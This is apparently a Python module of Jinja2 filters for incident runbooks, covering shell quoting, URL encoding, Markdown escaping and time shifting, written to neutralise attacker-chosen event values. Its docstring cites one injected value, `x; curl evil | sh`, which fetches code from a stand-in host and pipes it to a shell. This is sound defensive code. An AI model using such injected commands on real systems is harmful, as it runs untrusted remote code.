"""Jinja2 filters for runbook authors.

Group values and evidence come from shipped events, so an attacker can choose them
(an actor id like `x; curl evil | sh`). Runbook commands are copy-pasted under stress,
so every such value placed in a shell command goes through `sh`, and into a URL
query through `q`.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Callable, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import quote

# `<actor.id>`-style placeholders stand for values the incident does not carry.
_PLACEHOLDER = re.compile(r"^<[A-Za-z0-9_.:-]+>$")
_DURATION = re.compile(r"^(\d+)([smhd])$")
_UNITS = {"s": "seconds", "m": "minutes", "h": "hours", "d": "days"}
_TABLE_COLUMNS = ("seq", "time", "action", "outcome", "actor", "resource", "hash")


def sh(value: Any) -> str:
    """Quote a value as one POSIX shell word."""
    return shlex.quote(str(value))


def code(value: Any) -> str:
    """Show a value as Markdown inline code that its content cannot break out of."""
    text = re.sub(r"[\r\n\t]+", " ", str(value))
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{fence}{pad}{text}{pad}{fence}"


def q(value: Any) -> str:
    """Percent-encode a value for a URL query; placeholders stay readable.

    A placeholder is safe verbatim: commands put URLs in double quotes, where `<`
    and `>` are literal.
    """
    text = str(value)
    if _PLACEHOLDER.match(text):
        return text
    # ":" and "@" are legal in a query (RFC 3986) and keep times and emails readable.
    return quote(text, safe=":@")


def minus(value: Any, duration: str) -> str:
    """An RFC 3339 time `duration` ("30m", "24h", "7d") before `value`."""
    return _shift(value, duration, sign=-1)


def plus(value: Any, duration: str) -> str:
    """An RFC 3339 time `duration` after `value`."""
    return _shift(value, duration, sign=1)


def _shift(value: Any, duration: str, *, sign: int) -> str:
    match = _DURATION.match(duration)
    if not match:
        raise ValueError(f"duration {duration!r} must look like 30m, 24h or 7d")
    delta = timedelta(**{_UNITS[match.group(2)]: int(match.group(1))})
    moment = _parse_time(value)
    if moment is None:
        # A placeholder or missing time: keep it visible rather than invent a time.
        return str(value)
    return format_time(moment + sign * delta)


def _parse_time(value: Any) -> datetime | None:
    if isinstance(value, datetime):
        moment = value
    else:
        try:
            moment = datetime.fromisoformat(str(value).replace("Z", "+00:00"))
        except ValueError:
            return None
    return moment if moment.tzinfo else moment.replace(tzinfo=UTC)


def format_time(moment: datetime) -> str:
    """RFC 3339 in UTC with a `Z`, the form the Custody API and CLI accept."""
    moment = moment if moment.tzinfo else moment.replace(tzinfo=UTC)
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def evidence_table(evidence: Sequence[Mapping[str, Any]], limit: int = 20) -> str:
    """A Markdown table of evidence events, tolerant of missing fields."""
    if not evidence:
        return "_No evidence events are attached yet._"
    lines = [
        "| " + " | ".join(_TABLE_COLUMNS) + " |",
        "|" + "---|" * len(_TABLE_COLUMNS),
    ]
    for event in list(evidence)[:limit]:
        lines.append("| " + " | ".join(_cell(event, c) for c in _TABLE_COLUMNS) + " |")
    hidden = len(evidence) - limit
    if hidden > 0:
        lines.append(f"\n_{hidden} more event(s) not shown; replay the incident for all._")
    return "\n".join(lines)


def _cell(event: Mapping[str, Any], column: str) -> str:
    value = event.get(column)
    if isinstance(value, Mapping):
        # actor / resource objects: "type:id" is what a responder scans for.
        value = ":".join(str(value[k]) for k in ("type", "id") if value.get(k))
    elif column == "hash" and isinstance(value, str):
        value = value[:12]
    text = "" if value is None else str(value)
    # Cells hold attacker-chosen text: keep it on one line and inside its cell.
    text = re.sub(r"[\r\n\t]+", " ", text).replace("|", "\\|").replace("`", "'")
    return f"`{text}`" if text else ""


FILTERS: Mapping[str, Callable[..., str]] = {
    "sh": sh,
    "code": code,
    "q": q,
    "minus": minus,
    "plus": plus,
    "evidence_table": evidence_table,
}
